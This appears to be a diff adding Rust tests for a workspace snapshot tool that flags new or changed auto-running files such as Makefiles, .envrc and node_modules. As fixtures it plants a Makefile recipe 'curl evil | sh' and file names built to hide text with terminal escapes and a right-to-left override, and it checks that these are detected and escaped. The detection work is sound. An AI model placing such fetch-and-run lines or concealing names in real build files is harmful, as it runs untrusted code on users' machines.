@@ -1,0 +1,65 @@
+//! Comparing snapshots: what counts as a change, and how it is said.
+
+use super::super::kinds::Kind;
+use super::super::report::{compare, hint, render, Change};
+use super::{plant, take};
+
+#[test]
+fn added_changed_removed_and_other_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path();
+    plant(ws, "Makefile", "all:\n\ttrue\n", 0o644);
+    plant(ws, ".envrc", "x\n", 0o644);
+    plant(ws, "src/a.rs", "fn a() {}\n", 0o644);
+    let base = take(ws).snapshot;
+    assert!(compare(Some(&base), &take(ws)).findings.is_empty());
+
+    // The same bytes written again are no change; a mode change is one.
+    plant(ws, "Makefile", "all:\n\ttrue\n", 0o644);
+    plant(ws, "src/a.rs", "fn a() { evil() }\n", 0o644);
+    assert!(compare(Some(&base), &take(ws)).findings.is_empty());
+    plant(ws, "Makefile", "all:\n\tcurl evil | sh\n", 0o755);
+    std::fs::remove_file(ws.join(".envrc")).unwrap();
+    plant(ws, "node_modules/x/index.js", "evil()\n", 0o644);
+    let r = compare(Some(&base), &take(ws));
+    let got: Vec<(Change, Kind, &str)> = r.findings.iter().map(|f| (f.change, f.kind, f.path.as_str())).collect();
+    assert_eq!(
+        got,
+        vec![(Change::Removed, Kind::EnvLoader, ".envrc"), (Change::Changed, Kind::BuildFile, "Makefile"), (Change::Added, Kind::DependencyTree, "node_modules/x/index.js")]
+    );
+    assert_eq!(r.findings[1].runs, "curl evil | sh");
+    assert_eq!(r.other_changes.len(), 1);
+    assert_eq!((r.other_changes[0].change, r.other_changes[0].path.as_str()), (Change::Changed, "src/a.rs"));
+    let text = render(&r);
+    assert!(text.contains("changed  build-file         Makefile\n"), "{text}");
+    assert!(text.contains("added    dependency-tree    1 file(s): node_modules/x/index.js\n"), "{text}");
+    assert!(text.contains("  changed  src/a.rs\n"), "{text}");
+    let h = hint(&r, "the last acknowledged review").unwrap();
+    assert!(h.contains("2 place(s)") && h.contains("first: build-file Makefile"), "{h}");
+}
+
+#[test]
+fn without_a_baseline_everything_present_is_listed() {
+    let dir = tempfile::tempdir().unwrap();
+    plant(dir.path(), "Makefile", "all:\n", 0o644);
+    plant(dir.path(), "README.md", "hi\n", 0o644);
+    let r = compare(None, &take(dir.path()));
+    assert_eq!(r.findings.len(), 1);
+    assert_eq!((r.findings[0].change, r.findings[0].path.as_str()), (Change::Present, "Makefile"));
+    assert!(r.needs_look());
+    assert!(render(&compare(Some(&take(dir.path()).snapshot), &take(dir.path()))).starts_with("nothing changed"));
+}
+
+/// Escape sequences in a planted file are shown, not sent to the terminal.
+#[test]
+fn control_characters_in_what_runs_are_escaped() {
+    let dir = tempfile::tempdir().unwrap();
+    plant(dir.path(), "Makefile", "all:\n\ttrue \x1b[8m\x1b]0;x\x07\n", 0o644);
+    let now = take(dir.path());
+    assert_eq!(now.runs["Makefile"], "true \\u{1b}[8m\\u{1b}]0;x\\u{7}");
+    // ... and so are names: a file named to conceal the rest of the line.
+    plant(dir.path(), "x\x1b[8m\u{202e}/Makefile", "all:\n", 0o644);
+    let r = compare(Some(&now.snapshot), &take(dir.path()));
+    let text = render(&r) + &hint(&r, "x").unwrap();
+    assert!(!text.contains('\x1b') && !text.contains('\u{202e}') && text.contains("x\\u{1b}[8m\\u{202e}/Makefile"), "{text:?}");
+}
